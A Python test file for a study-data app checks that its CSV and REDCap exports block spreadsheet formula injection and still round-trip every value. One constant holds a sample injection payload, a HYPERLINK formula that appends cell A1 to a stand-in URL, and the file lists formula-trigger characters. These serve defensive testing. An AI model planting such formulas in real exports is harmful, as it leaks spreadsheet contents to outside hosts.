"""CSV that a spreadsheet can open without running anything, and that comes back whole."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.edc.csv_text import csv_bytes, guarded, unguarded
from app.edc.csv_writer import table_bytes, write_csv
from app.edc.dictionary import TABLES, Column
from app.edc.redcap import write_redcap
from app.study.store import StudyStore
from app.usecases.reconcile import reconcile, same_value
from tests.edc.conftest import Whole

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
EVIL = '=HYPERLINK("http://example.org/?"&A1,"look")'


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n\uff1da1,\" ")))
def test_that_no_text_runs_and_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert not cell.startswith(RUNS)
    assert unguarded(cell) == text
    assert cell == text or cell == f"'{text}"


@given(st.lists(st.lists(st.text(alphabet=st.sampled_from("a1,\"\r\n ;'\x00é")), min_size=3, max_size=3), max_size=4))
def test_that_a_table_reads_back_cell_by_cell(rows: list[list[str]]) -> None:
    data = csv_bytes(["a", "b", "c"], rows)
    assert list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""))) == [["a", "b", "c"], *rows]
    if not any("\r" in cell for row in rows for cell in row):  # the library's own writer agrees wherever it can
        text = io.StringIO()
        csv.writer(text, lineterminator="\n").writerows([["a", "b", "c"], *rows])
        assert text.getvalue().encode() == data


@pytest.fixture(scope="module")
def evil(whole: Whole) -> Whole:
    """The study with formulas where somebody may type."""
    readings = tuple(replace(r, status_reason=EVIL, locked_by="+49 Dr\rOne", lock_meaning="'@meant") if r.reader == "reader-b" else r for r in whole.snapshot.readings)
    return replace(whole, snapshot=replace(whole.snapshot, name="-Trial", readings=readings))


def cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_that_what_somebody_typed_runs_in_no_table_and_numbers_stay_numbers(evil: Whole, tmp_path: Path) -> None:
    write_csv(evil.snapshot, tmp_path)
    write_redcap(evil.snapshot, evil.mapping, tmp_path / "redcap")
    for path in (*tmp_path.glob("*.csv"), tmp_path / "redcap" / "import.csv"):
        for row in cells(path):
            assert not [v for v in row.values() if v.startswith(RUNS)], path.name
    mine = [r for r in cells(tmp_path / "readings.csv") if r["reader"] == "reader-b"]
    assert {(r["study"], unguarded(r["status_reason"]), unguarded(r["locked_by"]), unguarded(r["lock_meaning"])) for r in mine} == {("'-Trial", EVIL, "+49 Dr\rOne", "'@meant")}
    assert table_bytes((Column("a", "", "text"), Column("b", "", "number")), [{"a": "-5.0", "b": -5.0}]) == b"a,b\n'-5.0,-5.0\n"


@pytest.mark.parametrize(("write", "file"), [("csv", "readings.csv"), ("redcap", "import.csv")])
def test_that_a_round_trip_through_a_guarded_file_finds_no_difference(evil: Whole, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, write: str, file: str) -> None:
    if write == "csv":
        write_csv(evil.snapshot, tmp_path)
    else:
        write_redcap(evil.snapshot, evil.mapping, tmp_path)
    with StudyStore.open(evil.folder) as store:
        monkeypatch.setattr(store, "snapshot", lambda: evil.snapshot)
        assert reconcile(store, tmp_path / file)["differences"] == []
        text = (tmp_path / file).read_bytes().replace(b"HYPERLINK", b"HYPERLINX")
        (tmp_path / "other.csv").write_bytes(text)
        told = reconcile(store, tmp_path / "other.csv")["differences"]
    assert {(d["kind"], d["field"]) for d in told} == {("value_differs", "status_reason")}
    assert json.dumps(told[0]["study"]) == json.dumps(EVIL)


def test_that_only_a_text_may_stand_behind_an_apostrophe() -> None:
    columns = {c.name: c for c in TABLES["readings.csv"]}
    assert same_value("'-x", "-x", columns["status_reason"])
    assert not same_value("'x", "x", columns["status_reason"])
    assert not same_value("'-5", "-5", columns["volume_ml"])
